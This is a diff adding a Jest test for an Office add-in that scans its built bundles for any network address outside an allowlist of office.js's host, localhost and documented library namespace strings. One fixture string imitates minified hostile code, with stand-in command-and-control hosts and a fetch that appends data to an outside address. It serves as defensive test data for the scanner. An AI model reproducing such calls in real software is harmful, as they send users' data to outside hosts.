@@ -1,0 +1,149 @@
+/**
+ * The add-in's built files (what `npm run build` puts in dist/) name no network address except
+ * office.js's host and localhost (the development server). The scan finds every `scheme://`
+ * in the bundles and pages; the few that libraries embed are listed below with the reason, by
+ * exact address, so a new one fails the test until someone looks at it.
+ *
+ * The production build is made here when dist/ is missing, older than the sources or a
+ * development build (one with source maps): a few minutes on a busy machine.
+ */
+import { execFileSync } from "child_process";
+import fs from "fs";
+import path from "path";
+
+const ROOT = path.resolve(__dirname, "../..");
+const DIST = path.join(ROOT, "dist");
+
+/** Hosts the add-in may talk to. */
+const ALLOWED_HOSTS = new Set(["appsforoffice.microsoft.com", "localhost"]);
+
+/** Addresses in library code that are names, never fetched. */
+const EMBEDDED: Record<string, string> = {
+  // React DOM: XML namespace identifiers passed to createElementNS / setAttributeNS.
+  "http://www.w3.org/1999/xhtml": "React DOM's HTML namespace identifier",
+  "http://www.w3.org/2000/svg":
+    "React DOM's SVG namespace identifier (Fluent icons are SVG)",
+  "http://www.w3.org/1999/xlink": "React DOM's xlink: attribute namespace",
+  "http://www.w3.org/XML/1998/namespace":
+    "React DOM's xml: attribute namespace",
+  "http://www.w3.org/1998/Math/MathML":
+    "React DOM's MathML namespace identifier",
+  // React's production build shortens error messages to a code and this address as text for the
+  // developer to open; React never requests it.
+  "https://reactjs.org/docs/error-decoder.html?invariant=":
+    "React's minified-error link, shown as text only",
+};
+
+function newest(target: string): number {
+  const stat = fs.statSync(target);
+  if (!stat.isDirectory()) return stat.mtimeMs;
+  return fs
+    .readdirSync(target)
+    .reduce((m, name) => Math.max(m, newest(path.join(target, name))), 0);
+}
+
+function ensureProductionBuild(): void {
+  const bundle = path.join(DIST, "taskpane.js");
+  const sources = Math.max(
+    newest(path.join(ROOT, "src")),
+    newest(path.join(ROOT, "webpack.config.js")),
+    newest(path.join(ROOT, "manifest.xml")),
+  );
+  const fresh =
+    fs.existsSync(bundle) &&
+    fs.statSync(bundle).mtimeMs > sources &&
+    !fs.readdirSync(DIST).some((f) => f.endsWith(".map"));
+  if (fresh) return;
+  execFileSync(
+    process.execPath,
+    [
+      path.join(ROOT, "node_modules/webpack/bin/webpack.js"),
+      "--mode",
+      "production",
+      "--config-name",
+      "addin",
+    ],
+    { cwd: ROOT, stdio: "pipe", env: { ...process.env, RAPPORTKOLL_URL: "" } },
+  );
+}
+
+/** Every scheme://… in a text, cut where a string literal or markup would end it. */
+function addressesIn(text: string): string[] {
+  return text.match(/\b[a-z][a-z0-9+.-]*:\/\/[^\s"'`<>)\\,;{}]*/gi) ?? [];
+}
+
+function isAllowed(address: string): boolean {
+  if (address in EMBEDDED) return true;
+  try {
+    const url = new URL(address);
+    return (
+      ["https:", "http:", "wss:", "ws:"].includes(url.protocol) &&
+      ALLOWED_HOSTS.has(url.hostname)
+    );
+  } catch {
+    return false;
+  }
+}
+
+describe("the built add-in", () => {
+  let files: string[] = [];
+
+  beforeAll(() => {
+    ensureProductionBuild();
+    files = fs
+      .readdirSync(DIST)
+      // manifest.xml names Office's XML schemas; its addresses are checked in pageSecurity.
+      .filter((f) => /\.(js|html|json)$/.test(f))
+      .map((f) => path.join(DIST, f));
+  }, 900000);
+
+  test("has the bundles the manifest and the page load", () => {
+    const names = files.map((f) => path.basename(f));
+    expect(names).toEqual(
+      expect.arrayContaining([
+        "taskpane.js",
+        "functions.js",
+        "commands.js",
+        "taskpane.html",
+      ]),
+    );
+  });
+
+  test("names no network address but office.js's host, localhost and the listed library names", () => {
+    const found = new Map<string, string[]>();
+    for (const file of files)
+      for (const address of addressesIn(fs.readFileSync(file, "utf8")))
+        if (!isAllowed(address))
+          found.set(address, [
+            ...(found.get(address) ?? []),
+            path.basename(file),
+          ]);
+    expect(Object.fromEntries(found)).toEqual({});
+  });
+
+  test("every listed library address is still there (the list does not grow stale)", () => {
+    const all = new Set(
+      files.flatMap((f) => addressesIn(fs.readFileSync(f, "utf8"))),
+    );
+    expect(Object.keys(EMBEDDED).filter((a) => !all.has(a))).toEqual([]);
+  });
+});
+
+test("the scan sees addresses however a minifier writes them", () => {
+  const bundle = `a="https://evil.example/x?y=1",b='wss://c2.example:8443/s';fetch(\`http://t.example/\${k}\`);u="ftp://f.example"`;
+  expect(addressesIn(bundle)).toEqual([
+    "https://evil.example/x?y=1",
+    "wss://c2.example:8443/s",
+    "http://t.example/$",
+    "ftp://f.example",
+  ]);
+  expect(addressesIn(bundle).filter(isAllowed)).toEqual([]);
+  expect(
+    [
+      "https://localhost:3000/taskpane.html",
+      "https://appsforoffice.microsoft.com/lib/1/hosted/office.js",
+      "wss://localhost:3000/ws",
+    ].every(isAllowed),
+  ).toBe(true);
+  expect(isAllowed("https://localhost.evil.example/")).toBe(false);
+});
